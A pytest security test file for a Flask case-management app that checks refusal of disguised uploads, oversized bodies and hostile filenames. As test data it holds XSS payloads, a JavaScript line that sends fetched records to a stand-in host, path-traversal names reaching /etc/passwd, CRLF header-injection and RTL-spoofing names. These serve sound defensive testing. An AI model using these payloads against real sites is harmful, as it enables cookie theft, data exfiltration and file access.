"""Hostile uploads: disguised types, bodies over the limit, and names built to traverse, spoof or break headers."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest
from sqlalchemy import func, select

from app.extensions import db
from app.models import Attachment, Case
from tests.support.files import PDF_BYTES, PNG_BYTES, BodyTrap
from tests.support.flows import own_record

# Content a browser or an OS would run or render, given the name of a harmless document.
DISGUISED = {
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    "html-after-bom": b"\xef\xbb\xbf<html><script>alert(1)</script>",
    "js": b"fetch('/api/v1/records').then(r => r.text()).then(t => navigator.sendBeacon('//x.test', t))",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "zip": None,  # built below: a ZIP without OFD.xml
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 64,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
    "pdf-late-magic": b"<html>" + b" " * 1100 + b"%PDF-1.4",  # magic bytes not at the start
}


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    return buffer.getvalue()


DISGUISED["zip"] = _zip()
REFUSED_TYPE = "文件类型不允许"


def stored_files(app) -> set[Path]:
    return {p for p in Path(app.config["FILE_STORE"]).rglob("*") if p.is_file()}


def attachment_count() -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(Attachment))


@pytest.fixture()
def draft(api, recorded_staff):
    """applicant1's draft objection (uploads are open on drafts) and an API client for it."""
    client = api("applicant1")
    record = own_record("applicant1")
    response = client.post("/api/v1/cases", json={"type": "objection", "record_id": record.id,
                                                  "reason": "duplicate", "statement": "重复公示。"})
    assert response.status_code == 201, response.get_json()
    return client, response.get_json()["id"]


def api_upload(client, case_id, data: bytes, name: str, kind: str = "evidence"):
    return client.post(f"/api/v1/cases/{case_id}/attachments", data={"kind": kind, "file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


@pytest.mark.parametrize("what", sorted(DISGUISED))
@pytest.mark.parametrize("name", ["证据.pdf", "scan.png", "承诺书.PDF", "a.pdf.html"])
def test_disguised_content_is_refused_through_the_api(app, draft, what, name):
    client, case_id = draft
    before = stored_files(app)
    response = api_upload(client, case_id, DISGUISED[what], name)
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == "bad_type" and REFUSED_TYPE in error["message"]
    assert attachment_count() == 0 and stored_files(app) == before


@pytest.mark.parametrize("what", ["html", "svg", "exe"])
def test_disguised_content_is_refused_on_the_case_page(app, web, draft, what):
    _, case_id = draft
    browser = web("applicant1")
    before = stored_files(app)
    response = browser.post(f"/cases/{case_id}/attachments", form_page=f"/cases/{case_id}",
                            data={"kind": "evidence", "file": (io.BytesIO(DISGUISED[what]), "证据材料.pdf")},
                            content_type="multipart/form-data", follow_redirects=True)
    assert response.status_code == 200
    assert REFUSED_TYPE in response.get_data(as_text=True)  # a clear Chinese message on the page
    assert attachment_count() == 0 and stored_files(app) == before


def test_a_refused_file_in_an_objection_keeps_nothing_of_the_application(app, web, recorded_staff):
    """A good evidence PDF and a disguised commitment: no case, no row and no file survive the refusal."""
    record = own_record("applicant1")
    browser = web("applicant1")
    cases_before = db.session.scalar(select(func.count()).select_from(Case))
    files_before = stored_files(app)
    page = f"/portal/records/{record.id}"
    response = browser.post(page, data={
        "action": "objection", "objection-reason": "duplicate", "objection-statement": "重复公示。",
        "objection-evidence": (io.BytesIO(PDF_BYTES), "证据材料.pdf"),
        "objection-commitment": (io.BytesIO(DISGUISED["html"]), "承诺书.pdf"),
    }, content_type="multipart/form-data")
    assert response.status_code == 200 and REFUSED_TYPE in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(Case)) == cases_before
    assert attachment_count() == 0
    assert stored_files(app) == files_before  # the evidence written before the refusal is gone too


def _oversized_post(app, path: str, headers: dict | None = None, client=None):
    trap = BodyTrap(app.config["MAX_CONTENT_LENGTH"] + 1)
    client = client or app.test_client()
    response = client.post(path, input_stream=trap, headers=headers or {},
                           content_type="multipart/form-data; boundary=----trap")
    return response, trap


def test_oversized_body_is_refused_before_it_is_read_by_the_api(app, draft):
    client, case_id = draft
    before = stored_files(app)
    response, trap = _oversized_post(app, f"/api/v1/cases/{case_id}/attachments", client.headers)
    assert response.status_code == 413
    assert response.get_json()["error"]["code"] == "413"
    assert trap.read_bytes == 0  # Werkzeug compared Content-Length with MAX_CONTENT_LENGTH first
    assert attachment_count() == 0 and stored_files(app) == before


@pytest.mark.parametrize("path, shown_again", [("/login", True), ("/cases/1/attachments", False),
                                               ("/portal/records/1", True), ("/v/ABCDEF", True)])
def test_oversized_body_is_refused_before_it_is_read_by_the_pages(app, recorded_staff, path, shown_again):
    """A form page is shown again (303 to itself, the reason flashed); a POST-only route answers the 413 page."""
    response, trap = _oversized_post(app, path)
    assert trap.read_bytes == 0
    if shown_again:
        assert response.status_code == 303 and response.headers["Location"] == path
        return
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "本次提交的内容合计超过 100 MB，未被接收" in page and "每个文件不超过 20 MB" in page


def test_oversized_body_of_a_signed_in_user_is_refused_before_it_is_read(app, web, draft):
    _, case_id = draft
    browser = web("applicant1")
    response, trap = _oversized_post(app, f"/cases/{case_id}/attachments", client=browser.client)
    assert response.status_code == 413 and trap.read_bytes == 0
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_body_without_length_is_cut_at_the_limit(app, draft):
    """A chunked body has no Content-Length: Werkzeug reads up to the limit, then answers 413."""
    client, case_id = draft
    limit = app.config["MAX_CONTENT_LENGTH"]
    trap = BodyTrap(limit * 4)
    response = client.client.post(f"/api/v1/cases/{case_id}/attachments", input_stream=trap,
                                  headers={**client.headers, "Transfer-Encoding": "chunked"},
                                  environ_overrides={"wsgi.input_terminated": True},
                                  content_type="multipart/form-data; boundary=----trap")
    assert response.status_code == 413
    assert trap.read_bytes <= limit + 64 * 1024  # at most one read buffer past the limit
    assert attachment_count() == 0


HOSTILE_NAMES = [
    ("../../../../etc/passwd.pdf", "passwd.pdf"),
    ("/etc/shadow", "shadow"),
    ("证据\x00.exe.pdf", "证据.exe.pdf"),
    ("a\tb\x0bc\x7fd.pdf", "abcd.pdf"),
    ("\x1b[31m红色\x07.pdf", "[31m红色.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),  # RTL override would show "invoiceexe.pdf"
    ("\u200b\ufeff证据.pdf", "证据.pdf"),
    ("x'; filename=evil.html", "x'; filename=evil.html"),  # display text; percent-encoded in the header
    ("...", "..."),
    ("", "未命名文件"),
    ("../", "未命名文件"),
]


@pytest.mark.parametrize("raw, shown", HOSTILE_NAMES)
def test_hostile_names_are_stored_under_a_generated_id_and_served_safely(app, web, draft, raw, shown):
    client, case_id = draft
    response = api_upload(client, case_id, PDF_BYTES, raw)
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["name"] == shown
    assert re.fullmatch(r"[0-9a-f]{32}", body["id"])
    stored = [p for p in Path(app.config["FILE_STORE"]).rglob(body["id"]) if p.is_file()]
    assert len(stored) == 1 and stored[0].read_bytes() == PDF_BYTES
    assert stored[0].resolve().is_relative_to(Path(app.config["FILE_STORE"]).resolve())

    download = web("applicant1").get(f"/cases/attachments/{body['id']}")
    assert download.status_code == 200 and download.data == PDF_BYTES
    disposition = download.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "\x00" not in disposition
    match = re.fullmatch(r'attachment; filename="download"; filename\*=UTF-8\'\'([A-Za-z0-9!#$&+\-.^_`|~%]*)',
                         disposition)
    assert match, disposition  # RFC 5987 attr-chars only: no quote, semicolon or space can end the value
    assert unquote(match.group(1)) == shown
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.mimetype == "application/pdf"


@pytest.mark.parametrize("raw", [
    "a\r\nSet-Cookie: sid=x\r\n\r\n<script>.pdf",
    'x"; filename="evil.html',
    "C:\\Users\\x\\证据.pdf",
    "..\\..\\windows\\system32\\证据.pdf",
    "证据.pdf\u202egpj.exe\u2066",
])
def test_names_a_multipart_encoder_would_mangle_still_come_out_safe(app, web, draft, users, raw):
    """Stored through the service (raw bytes a hand-written client could send), then downloaded."""
    from app.services.attachments import store_attachment

    _, case_id = draft
    row = store_attachment(users["applicant1"], db.session.get(Case, case_id), "evidence", raw, PDF_BYTES)
    db.session.commit()
    assert not any(ch in row.display_name for ch in "/\\\r\n\x00\u202e\u2066")
    disposition = web("applicant1").get(f"/cases/attachments/{row.id}").headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="download"; filename\*=UTF-8\'\'[A-Za-z0-9!#$&+\-.^_`|~%]*',
                        disposition), disposition


def test_very_long_names_are_cut_to_fit(app, web, draft):
    client, case_id = draft
    raw = "很长的文件名" * 200 + ".pdf"
    response = api_upload(client, case_id, PNG_BYTES, raw)
    assert response.status_code == 201
    name = response.get_json()["name"]
    assert name == raw[:200]
    download = web("applicant1").get(f"/cases/attachments/{response.get_json()['id']}")
    assert download.status_code == 200 and download.mimetype == "image/png"
    assert download.headers["Content-Disposition"].startswith("attachment;")


def test_hostile_name_is_inert_on_the_case_page(web, draft):
    client, case_id = draft
    raw = "<img src=x onerror=alert(1)>\u202e.pdf"
    assert api_upload(client, case_id, PDF_BYTES, raw).status_code == 201
    page = web("applicant1").get(f"/cases/{case_id}").get_data(as_text=True)
    assert "<img src=x onerror" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "\u202e" not in page


def test_preview_is_inline_only_for_the_documented_frame_and_still_nosniff(web, draft):
    client, case_id = draft
    attachment_id = api_upload(client, case_id, PDF_BYTES, "证据.pdf").get_json()["id"]
    response = web("applicant1").get(f"/cases/attachments/{attachment_id}/preview")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("inline;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'self'" in response.headers["Content-Security-Policy"]
    assert "script-src" not in response.headers["Content-Security-Policy"] or \
        "'unsafe-inline'" not in response.headers["Content-Security-Policy"]


NAMELESS = (b"--XX\r\nContent-Disposition: form-data; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
            + PDF_BYTES + b"\r\n--XX\r\nContent-Disposition: form-data\r\n\r\nvalue\r\n--XX--\r\n")


@pytest.mark.parametrize("path", ["/login", "/cases/{case}/attachments", "/portal/records/1"])
def test_a_form_part_without_a_field_name_is_refused_on_the_pages(app, web, draft, path):
    """A multipart part without a name (a hostile client) is a 400 before CSRF or a view reads the form."""
    _, case_id = draft
    browser = web("applicant1")
    before = stored_files(app)
    response = browser.client.post(path.format(case=case_id), data=NAMELESS,
                                   content_type="multipart/form-data; boundary=XX")
    assert response.status_code == 400
    assert attachment_count() == 0 and stored_files(app) == before


def test_a_form_part_without_a_field_name_is_refused_by_the_api(app, draft):
    client, case_id = draft
    response = client.client.post(f"/api/v1/cases/{case_id}/attachments", data=NAMELESS, headers=client.headers,
                                  content_type="multipart/form-data; boundary=XX")
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "400"
    assert attachment_count() == 0
